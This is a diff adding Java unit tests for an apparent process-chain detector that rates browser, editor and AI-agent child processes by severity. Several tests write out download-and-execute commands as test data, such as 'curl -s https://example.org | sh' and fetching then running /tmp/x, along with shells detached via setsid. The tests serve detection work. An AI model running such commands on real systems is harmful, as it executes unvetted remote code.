@@ -138,4 +138,52 @@ class DirectChainTest {
         story.spawn(shell, Stdin.PIPE, "/bin/sh");
         assertTrue(story.chains().isEmpty(), story.chains()::toString);
     }
+
+    @Test
+    void aSessionOfItsOwnBelowTheBrowserHidesNothing() {
+        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
+        HostProcess away = story.fork(browser);
+        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/usr/bin/setsid", "sh", "-c", "id");
+        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/bin/sh", "-c", "id");
+        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
+    }
+
+    @Test
+    void aBrowserThatIsAServiceItselfStartsNoSessionsThatHideItsChildren() {
+        HostProcess browser = story.browser(story.init, "--headless", "--no-sandbox");
+        HostProcess away = story.fork(browser);
+        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/bin/sh", "-c", "id");
+        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
+    }
+
+    @Test
+    void anAgentInAnEditorsWindowIsAnActorOfItsOwn() {
+        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
+        HostProcess host = story.spawn(
+                editor, Stdin.PIPE, "/usr/share/code/code", "--type=utility", "--utility-sub-type=node.mojom");
+        HostProcess agent = story.spawn(host, Stdin.PIPE, "/home/me/.vscode/extensions/agent/claude");
+        for (int i = 0; i < 10; i++) {
+            HostProcess shell = story.spawn(agent, Stdin.PIPE, "/bin/bash", "-c", "curl -s https://example.org | sh");
+            story.fetch(story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "-s", "https://example.org"));
+            story.spawn(shell, Stdin.PIPE, "/bin/sh");
+        }
+        assertTrue(story.alarms().isEmpty(), story.alarms()::toString);
+    }
+
+    @Test
+    void whatIsRecordedFirstAndGrowsIsAnUpdateOfThatRecord() {
+        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
+        HostProcess host = story.spawn(
+                editor, Stdin.PIPE, "/usr/share/code/code", "--type=utility", "--utility-sub-type=node.mojom");
+        HostProcess shell =
+                story.spawn(host, Stdin.PIPE, "/bin/sh", "-c", "curl -so /tmp/x https://example.org/x; /tmp/x");
+        story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "-so", "/tmp/x", "https://example.org/x");
+        story.spawn(shell, Stdin.PIPE, "/tmp/x");
+        assertEquals(Severity.INFO, story.chains().getFirst().severity());
+        Alert alarm = story.chains().getLast();
+        assertEquals(Severity.MEDIUM, alarm.severity());
+        assertEquals(8.0, alarm.score(), 0.05);
+        assertEquals(story.chains().getFirst().id(), alarm.id());
+        assertEquals(1, alarm.update());
+    }
 }
